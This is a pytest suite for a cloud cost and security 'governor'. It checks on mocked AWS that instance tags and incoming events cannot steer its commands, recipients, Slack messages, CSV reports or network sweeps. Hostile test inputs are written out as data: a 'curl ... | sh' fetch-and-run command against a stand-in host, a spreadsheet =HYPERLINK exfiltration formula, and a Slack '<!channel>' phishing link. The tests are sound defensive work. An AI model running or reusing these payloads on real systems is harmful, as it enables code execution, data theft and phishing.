"""The attacks of issue 18, each run through the real handlers on moto: a tag or an event must never steer the governor.

Every test here failed before the trust boundaries existed: a tagged command ran as root, a tag kept an idle GPU
forever, an owner tag added a recipient, a foreign finding reached Slack with ``<!channel>``, a spreadsheet formula
went out in the report CSV, a webhook's secret path reached the logs, and the drift sweep stripped web servers.
"""

from __future__ import annotations

import datetime as dt
import gzip
import json
import uuid
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import boto3
import pytest
from moto import mock_aws

from governor.adapters.ec2 import Ec2Reader
from governor.adapters.ses import Attachment
from governor.adapters.slack import DeliveryError, SlackWebhook
from governor.domain.messages import Email, Message
from governor.idle.domain import IDLE_SINCE_TAG, MARK_KIND
from governor.idle.handler import handle as idle_handle
from governor.lifecycle import handler as lifecycle
from governor.network.addresses import PublicAddresses
from governor.network.handler import Adapters as NetworkAdapters
from governor.network.handler import handle as network_handle
from governor.network.security_groups import SecurityGroups
from governor.notifier import handler as notifier
from governor.policy import parse_policy
from governor.runtime import Runtime
from governor_cli.main import main
from governor_cli.testing import events
from governor_cli.testing.memory import MemoryDeadLetters, MemoryLedger, MemorySink
from tests.adapters.test_idle_sweep import NOW, T0, _aws, _event, _metrics, _state

REGION = "us-east-1"
ACCOUNT = "123456789012"
IMAGE = "ami-12c6146b"
HOSTILE_COMMAND = "curl -s https://evil.example/x | sh"


def _runtime(policy: dict[str, Any]) -> Runtime:
    return Runtime(
        policy=parse_policy(policy),
        ledger=MemoryLedger(),
        sink=MemorySink(),
        dead_letters=MemoryDeadLetters(),
        region=REGION,
    )


def _idle_policy(**idle: Any) -> dict[str, Any]:
    return {"idle": {"enforce": True, "launch_grace_minutes": 0, "max_fleet_percent": 100, **idle}}


def _launch(ec2: Any, tags: dict[str, str], instance_type: str = "g5.xlarge") -> str:
    all_tags = {"owner": "ana@example.com", "team": "vision", **tags}
    found = ec2.run_instances(
        ImageId=IMAGE,
        InstanceType=instance_type,
        MinCount=1,
        MaxCount=1,
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": k, "Value": v} for k, v in all_tags.items()]}],
    )
    return str(found["Instances"][0]["InstanceId"])


def _commands() -> list[dict[str, Any]]:
    return list(boto3.client("ssm", region_name=REGION).list_commands()["Commands"])


@pytest.fixture
def ec2() -> Iterator[Any]:
    with mock_aws():
        yield boto3.client("ec2", region_name=REGION)


# --- 1. a tag never chooses the command ------------------------------------------------------------------------------


def test_a_tagged_shell_command_is_never_sent_even_with_no_policy_command(ec2: Any) -> None:
    instance = _launch(ec2, {"gpu-fleet": "true", "governor:checkpoint-command": HOSTILE_COMMAND})
    _metrics(instance, 0.2)
    runtime = _runtime(_idle_policy(checkpoint_command=None))
    aws = _aws()
    idle_handle(_event(T0, "sweep-1"), runtime, aws)
    second = idle_handle(_event(T0 + dt.timedelta(minutes=30), "sweep-2"), runtime, aws)
    assert second["outcomes"].get("acted") == 1  # reclaimed as an idle instance, without running the tag
    assert _commands() == []
    ignored = [f for f in runtime.sink.findings if f.rule == "idle.tags-ignored"]  # type: ignore[attr-defined]
    assert ignored and "names no entry of fleet.checkpoint_commands" in ignored[0].detail


def test_the_tag_may_name_an_allowed_command_which_is_sent_as_the_policy_wrote_it(ec2: Any) -> None:
    instance = _launch(ec2, {"gpu-fleet": "true", "governor:checkpoint-command": "torch"})
    _metrics(instance, 0.2)
    runtime = _runtime(
        {**_idle_policy(), "fleet": {"checkpoint_commands": {"torch": "systemctl kill -s USR1 train.service"}}}
    )
    aws = _aws()
    idle_handle(_event(T0, "sweep-1"), runtime, aws)
    idle_handle(_event(T0 + dt.timedelta(minutes=30), "sweep-2"), runtime, aws)
    (sent,) = _commands()
    assert sent["InstanceIds"] == [instance] and sent["DocumentName"] == "AWS-RunShellScript"
    assert sent["Parameters"]["commands"] == ["systemctl kill -s USR1 train.service"]


def test_no_command_goes_to_an_instance_without_the_fleet_tags(ec2: Any) -> None:
    instance = _launch(ec2, {"governor:checkpoint-command": "torch"})
    _metrics(instance, 0.2)
    runtime = _runtime({**_idle_policy(checkpoint_command="sync"), "fleet": {"checkpoint_commands": {"torch": "x"}}})
    aws = _aws()
    idle_handle(_event(T0, "sweep-1"), runtime, aws)
    idle_handle(_event(T0 + dt.timedelta(minutes=30), "sweep-2"), runtime, aws)
    assert _commands() == []
    acted = [d for _, d in runtime.ledger.decisions if d.evidence.get("status") == "acted"]  # type: ignore[attr-defined]
    assert any("lacks fleet.fleet_tags (gpu-fleet=true)" in r for r in acted[0].reasons)


# --- 2. exemptions and snoozes are bounded -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "tags",
    [
        {"governor:keep-until": "9999-12-31"},
        {"governor:exempt": "nope"},
        {"governor:exempt": "off"},
        {"governor:exempt": "9999-01-01"},
        {IDLE_SINCE_TAG: "2999-01-01T00:00:00+00:00"},
    ],
    ids=["snooze-forever", "exempt-nope", "exempt-off", "exempt-far-date", "idle-since-future"],
)
def test_a_tag_cannot_keep_an_idle_instance_forever_and_is_reported(ec2: Any, tags: dict[str, str]) -> None:
    instance = _launch(ec2, {"gpu-fleet": "true", **tags})
    _metrics(instance, 0.2)
    runtime = _runtime(_idle_policy())
    aws = _aws()
    first = idle_handle(_event(T0, "sweep-1"), runtime, aws)
    assert first["outcomes"] == {"warned": 1}
    second = idle_handle(_event(T0 + dt.timedelta(minutes=30), "sweep-2"), runtime, aws)
    assert second["outcomes"] == {"acted": 1} and _state(ec2, instance) in ("stopping", "stopped")
    ignored = [f for f in runtime.sink.findings if f.rule == "idle.tags-ignored"]  # type: ignore[attr-defined]
    (key,) = tags
    assert ignored and key in ignored[0].detail and ignored[0].owner == "ana@example.com"


def test_a_bounded_snooze_and_a_true_exemption_still_hold(ec2: Any) -> None:
    snoozed = _launch(ec2, {"gpu-fleet": "true", "governor:keep-until": (NOW + dt.timedelta(days=3)).isoformat()})
    exempt = _launch(ec2, {"gpu-fleet": "true", "governor:exempt": "true"})
    for instance in (snoozed, exempt):
        _metrics(instance, 0.2)
    result = idle_handle(_event(T0, "sweep-1"), _runtime(_idle_policy()), _aws())
    assert result["outcomes"] == {"snoozed": 1, "exempt": 1}


def test_an_old_idle_since_tag_without_a_ledger_mark_skips_no_warning(ec2: Any) -> None:
    instance = _launch(ec2, {"gpu-fleet": "true", IDLE_SINCE_TAG: "2020-01-01T00:00:00+00:00"})
    _metrics(instance, 0.2)
    runtime = _runtime(_idle_policy())
    first = idle_handle(_event(T0, "sweep-1"), runtime, _aws())
    assert first["outcomes"] == {"warned": 1}  # not acted on at once: the ledger, not the tag, holds the mark
    assert runtime.ledger.get_item(MARK_KIND, instance)["idle_since"] == T0.isoformat()  # type: ignore[index]


def _create_tags_event(instance: str, key: str, value: str, who: str) -> dict[str, Any]:
    record = {
        "eventVersion": "1.08",
        "userIdentity": {
            "type": "IAMUser",
            "principalId": "AIDAEXAMPLE",
            "arn": f"arn:aws:iam::{ACCOUNT}:user/{who}",
            "accountId": ACCOUNT,
            "userName": who,
        },
        "eventTime": "2026-12-01T10:00:00Z",
        "eventSource": "ec2.amazonaws.com",
        "eventName": "CreateTags",
        "awsRegion": REGION,
        "sourceIPAddress": "192.0.2.10",
        "userAgent": "aws-cli/2.15.0",
        "requestParameters": {
            "resourcesSet": {"items": [{"resourceId": instance}]},
            "tagSet": {"items": [{"key": key, "value": value}]},
        },
        "responseElements": {"requestId": "9fcb52c3-4775-4e20-9271-2572dc3de943", "_return": True},
        "eventID": str(uuid.uuid4()),
        "eventType": "AwsApiCall",
        "recipientAccountId": ACCOUNT,
    }
    return events.envelope(
        events.CLOUDTRAIL, "aws.ec2", record, time="2026-12-01T10:00:05Z", account=ACCOUNT, region=REGION
    )


def test_the_lifecycle_function_records_who_set_each_snooze_and_reports_unbounded_ones(ec2: Any) -> None:
    runtime = _runtime({})
    caps = lifecycle.Adapters(reader=Ec2Reader(REGION), tagger=None, prices=None)  # type: ignore[arg-type]
    fine = lifecycle.handle(
        _create_tags_event("i-0aaaaaaaaaaaaaaa1", "governor:keep-until", "2026-12-03", "ana"), runtime, caps
    )
    forever = lifecycle.handle(
        _create_tags_event("i-0aaaaaaaaaaaaaaa2", "governor:keep-until", "9999-12-31", "mallory"), runtime, caps
    )
    assert fine["refused"] == 0 and forever["refused"] == 1
    item = runtime.ledger.get_item("governor-tag", "i-0aaaaaaaaaaaaaaa2#governor:keep-until")
    assert item is not None and item["who"] == f"arn:aws:iam::{ACCOUNT}:user/mallory"
    assert item["at"] == "2026-12-01T10:00:00+00:00" and "max_snooze_days" in item["problem"]
    (finding,) = runtime.sink.findings  # type: ignore[attr-defined]
    assert "mallory" in finding.title and finding.severity == "warning"


# --- 3 and 4. recipients come from routing; findings only from the governor -----------------------------------------


class Outbox:
    def __init__(self) -> None:
        self.slack: list[tuple[str, list[Message]]] = []
        self.emails: list[tuple[list[str], Email]] = []

    def post_slack(self, secret_name: str, messages: Sequence[Message]) -> None:
        self.slack.append((secret_name, list(messages)))

    def send_email(self, recipients: Sequence[str], email: Email, attachments: Sequence[Attachment] = ()) -> None:
        self.emails.append((list(recipients), email))


def _finding(**detail: Any) -> dict[str, Any]:
    body = {
        "policy": "network",
        "rule": "network.world-open",
        "severity": "critical",
        "resource": "sg-0123",
        "title": "Security group sg-0123 opened port 22 to the world",
        "team": "security",
        "at": "2026-12-01T10:00:00+00:00",
        **detail,
    }
    return events.finding(body, time="2026-12-01T10:00:00Z", account=ACCOUNT, region=REGION)


def _notifications() -> Runtime:
    return _runtime(
        {
            "notifications": {
                "enforce": True,
                "immediate": "actionable",
                "email_sender": "governor@corp.example",
                "owner_email_domains": ["corp.example"],
                "teams": {"security": {"email": ["secteam@corp.example"]}},
            }
        }
    )


@pytest.mark.parametrize(
    "owner",
    ["someone@attacker.example", "ana@corp.example,someone@attacker.example", "Ana <someone@attacker.example>"],
)
def test_an_owner_tag_never_adds_a_recipient_to_the_security_teams_message(owner: str) -> None:
    outbox = Outbox()
    notifier.handle(_finding(owner=owner), _notifications(), outbox, account=ACCOUNT)
    assert [recipients for recipients, _ in outbox.emails] == [["secteam@corp.example"]]


def test_an_owner_in_an_allowed_domain_gets_a_message_of_their_own() -> None:
    outbox = Outbox()
    notifier.handle(_finding(owner="ana@corp.example"), _notifications(), outbox, account=ACCOUNT)
    assert sorted(r for r, _ in outbox.emails) == [["ana@corp.example"], ["secteam@corp.example"]]


def test_a_finding_from_another_account_is_refused_to_the_dlq() -> None:
    runtime, outbox = _notifications(), Outbox()
    foreign = _finding() | {"account": "999999999999"}
    result = notifier.handle(foreign, runtime, outbox, account=ACCOUNT)
    assert result["status"] == "rejected" and outbox.slack == [] and outbox.emails == []
    assert "999999999999" in runtime.dead_letters.messages[0][1]  # type: ignore[attr-defined]


def test_the_lambda_context_gives_the_notifier_its_own_account() -> None:
    class Context:
        invoked_function_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:governor-notifier"

    outbox = Outbox()
    foreign = _finding() | {"account": "999999999999"}
    assert notifier.handle(foreign, _notifications(), outbox, context=Context())["status"] == "rejected"
    assert notifier.handle(_finding(), _notifications(), outbox, context=Context())["status"] == "sent"


def test_every_slack_text_field_including_the_fallback_is_escaped() -> None:
    outbox = Outbox()
    title = "<!channel> <https://evil.example/login|Reset your SSO password>"
    notifier.handle(_finding(title=title, team=None), _notifications(), outbox, account=ACCOUNT)
    (message,) = outbox.slack[0][1]
    texts = [message["text"]]
    for block in message["blocks"]:
        text = block.get("text")
        if isinstance(text, dict):
            texts.append(text["text"])
        texts += [element["text"] for element in block.get("elements", [])]
    assert all("<!channel>" not in t and "<https://" not in t for t in texts)
    assert "&lt;!channel&gt;" in message["text"]


# --- 5. CSV formula injection ---------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def _hostile_trail(folder: Path) -> Path:
    record = {
        "eventVersion": "1.08",
        "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE", "arn": f"arn:aws:iam::{ACCOUNT}:user/x"},
        "eventTime": "2026-11-30T10:00:00Z",
        "eventSource": "signin.amazonaws.com",
        "eventName": "ConsoleLogin",
        "awsRegion": REGION,
        "sourceIPAddress": "198.51.100.7",
        "userAgent": HYPERLINK,
        "errorMessage": "Failed authentication",
        "requestParameters": None,
        "responseElements": {"ConsoleLogin": "Failure"},
        "additionalEventData": {"MFAUsed": "No"},
        "eventID": "0b4a5a3e-7a5e-4b0e-9a55-000000000001",
        "eventType": "AwsConsoleSignIn",
        "recipientAccountId": ACCOUNT,
    }
    day = folder / "AWSLogs" / ACCOUNT / "CloudTrail" / REGION / "2026" / "11" / "30"
    day.mkdir(parents=True)
    with gzip.open(day / f"{ACCOUNT}_CloudTrail_{REGION}_20261130T1000Z_x.json.gz", "wt") as handle:
        json.dump({"Records": [record]}, handle)
    return folder


def test_audit_csv_neutralises_a_formula_planted_by_a_failed_login(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    logs = _hostile_trail(tmp_path / "logs")
    main(["audit", "--logs", str(logs), "--query", "console_login_failures", "--csv"])
    out = capsys.readouterr().out
    assert "'=HYPERLINK(" in out and ',"=HYPERLINK(' not in out and ",=HYPERLINK(" not in out


def test_every_report_csv_neutralises_formulas(tmp_path: Path) -> None:
    logs = _hostile_trail(tmp_path / "logs")
    out = tmp_path / "out"
    main(["report", "--logs", str(logs), "--out", str(out)])
    files = sorted(out.rglob("*.csv"))
    assert files
    hostile = [f for f in files if "HYPERLINK" in f.read_text()]
    assert hostile, "the failed login's user agent should be in a CSV"
    for file in hostile:
        for line in file.read_text().splitlines():
            cells = next(iter(__import__("csv").reader([line])))
            assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), line


# --- 6. no secret in any log line, error or DLQ message --------------------------------------------------------------

SECRET_PATH = "/services/T0SECRET/B0SECRET/xoxSECRETtoken"


@pytest.mark.parametrize("odd", [" ", "\n", "\t", "\x7f", "\u00e9"], ids=["space", "newline", "tab", "del", "accent"])
def test_a_webhook_url_with_odd_characters_never_reaches_logs_or_the_dlq(
    odd: str, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    with mock_aws():
        secrets = boto3.client("secretsmanager", region_name=REGION)
        secrets.create_secret(Name="governor/slack-webhook", SecretString=f"https://hooks.slack.com{SECRET_PATH}{odd}x")
        runtime = _notifications()
        outbox = notifier.AwsOutbox(REGION, "governor@corp.example")
        result = notifier.handle(_finding(team=None), runtime, outbox, account=ACCOUNT)
    seen = capsys.readouterr()
    everything = " ".join(
        [seen.out, seen.err, caplog.text, json.dumps(result), json.dumps(runtime.dead_letters.messages, default=str)]  # type: ignore[attr-defined]
    )
    assert "SECRET" not in everything
    assert result["status"] in ("undeliverable", "partly-undeliverable")


class _Failing:
    def __init__(self, error: Exception) -> None:
        self.error = error

    def __call__(self, request: Any, timeout: float) -> Any:
        raise self.error


@pytest.mark.parametrize(
    "error",
    [
        ValueError(f"URL can't contain control characters. '{SECRET_PATH} x'"),
        ConnectionResetError(f"reset by peer while posting to {SECRET_PATH}"),
        TimeoutError(f"timed out: https://hooks.slack.com{SECRET_PATH}"),
        __import__("urllib.error").error.URLError(f"no route to https://hooks.slack.com{SECRET_PATH}"),
        __import__("urllib.error").error.HTTPError(f"https://hooks.slack.com{SECRET_PATH}", 500, "boom", {}, None),  # type: ignore[arg-type]
        __import__("urllib.error").error.HTTPError(f"https://hooks.slack.com{SECRET_PATH}", 404, "gone", {}, None),  # type: ignore[arg-type]
        __import__("urllib.error").error.HTTPError(
            f"https://hooks.slack.com{SECRET_PATH}",
            429,
            "slow down",
            {"Retry-After": "1"},  # type: ignore[arg-type]
            None,
        ),
    ],
    ids=["invalid-url", "reset", "timeout", "url-error", "http-500", "http-404", "http-429"],
)
def test_no_delivery_error_carries_the_webhook_url(error: Exception) -> None:
    webhook = SlackWebhook(f"https://hooks.slack.com{SECRET_PATH}", opener=_Failing(error), sleep=lambda _: None)
    with pytest.raises(DeliveryError) as raised:
        webhook.post({"text": "hello"})
    assert "SECRET" not in str(raised.value) and raised.value.__cause__ is None


# --- 7. the network drift sweep keeps to the fleet and to its blast radius ----------------------------------------


def _network_runtime(**network: Any) -> Runtime:
    return _runtime({"network": {"enforce": True, **network}})


def _network_aws() -> NetworkAdapters:
    return NetworkAdapters(
        SecurityGroups(REGION), PublicAddresses(REGION), Ec2Reader(REGION, wildcard_type_filter=False)
    )


def _sweep_event() -> dict[str, Any]:
    return events.scheduled(time="2026-11-30T03:00:00Z", account=ACCOUNT, region=REGION)


WEB = [
    {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]} for port in (80, 443)
]


def _web_groups(ec2: Any, count: int, tags: dict[str, str] | None = None) -> list[str]:
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    groups = []
    for number in range(count):
        spec = [{"ResourceType": "security-group", "Tags": [{"Key": k, "Value": v} for k, v in (tags or {}).items()]}]
        group = ec2.create_security_group(
            GroupName=f"web-lb-{number}-{uuid.uuid4().hex[:6]}",
            Description="public load balancer",
            VpcId=vpc,
            **({"TagSpecifications": spec} if tags else {}),
        )["GroupId"]
        ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=WEB)
        groups.append(group)
    return groups


def _world_rules(ec2: Any, groups: list[str]) -> int:
    rules = ec2.describe_security_group_rules(Filters=[{"Name": "group-id", "Values": groups}])["SecurityGroupRules"]
    return sum(1 for r in rules if not r["IsEgress"] and r.get("CidrIpv4") == "0.0.0.0/0")


def test_the_drift_sweep_leaves_web_load_balancers_of_a_region_without_gpus_alone(ec2: Any) -> None:
    groups = _web_groups(ec2, 40)
    result = network_handle(_sweep_event(), _network_runtime(), _network_aws())
    assert _world_rules(ec2, groups) == 80 and result["out_of_scope"] >= 40 and result["done"] == []


def test_with_scope_all_the_sweep_revokes_at_most_its_budget_and_defers_the_rest(ec2: Any) -> None:
    groups = _web_groups(ec2, 40)
    runtime = _network_runtime(scope="all", max_revocations_per_sweep=10)
    result = network_handle(_sweep_event(), runtime, _network_aws())
    assert _world_rules(ec2, groups) == 70 and result["deferred"] == 70
    deferred = [f for f in runtime.sink.findings if "deferred to the next sweep" in f.detail]  # type: ignore[attr-defined]
    assert len(deferred) == 35


def test_groups_of_gpu_instances_and_fleet_tagged_groups_are_judged(ec2: Any) -> None:
    """Both are judged; only the GPU instance's group is changed: a tag proves nothing (issue 33), so the tagged group
    that no interface uses is reported, never changed."""
    (attached,) = _web_groups(ec2, 1)
    (tagged,) = _web_groups(ec2, 1, {"gpu-fleet": "true"})
    (web,) = _web_groups(ec2, 1)
    ec2.run_instances(ImageId=IMAGE, InstanceType="g5.xlarge", MinCount=1, MaxCount=1, SecurityGroupIds=[attached])
    runtime = _network_runtime(world_open_allowed_ports=[])
    network_handle(_sweep_event(), runtime, _network_aws())
    assert (_world_rules(ec2, [attached]), _world_rules(ec2, [tagged]), _world_rules(ec2, [web])) == (0, 2, 2)
    reported = [f for f in runtime.sink.findings if f.resource == tagged]  # type: ignore[attr-defined]
    assert reported and "used by no network interface" in reported[0].detail


class _FixedBeforeRevoke(SecurityGroups):
    """Someone removes the offending rule between the sweep's listing and its revocation."""

    def group(self, group_id: str | None = None, group_name: str | None = None) -> Any:
        live = super().group(group_id, group_name)
        if live is not None and live.rules:
            self._ec2.revoke_security_group_ingress(GroupId=live.group_id, IpPermissions=WEB)
            return super().group(group_id, group_name)
        return live


def test_each_group_is_reread_right_before_its_rules_are_revoked(ec2: Any) -> None:
    (group,) = _web_groups(ec2, 1)
    ec2.run_instances(ImageId=IMAGE, InstanceType="g5.xlarge", MinCount=1, MaxCount=1, SecurityGroupIds=[group])
    adapters = _network_aws()
    adapters.groups = _FixedBeforeRevoke(REGION)
    runtime = _network_runtime(public_ip_on_gpu="allow")
    result = network_handle(_sweep_event(), runtime, adapters)
    assert result["done"] == [] and _world_rules(ec2, [group]) == 0
    reread = [d for _, d in runtime.ledger.decisions if d.resource == group]  # type: ignore[attr-defined]
    assert reread[-1].verdict == "ok" and "re-read right before revoking" in reread[-1].reasons
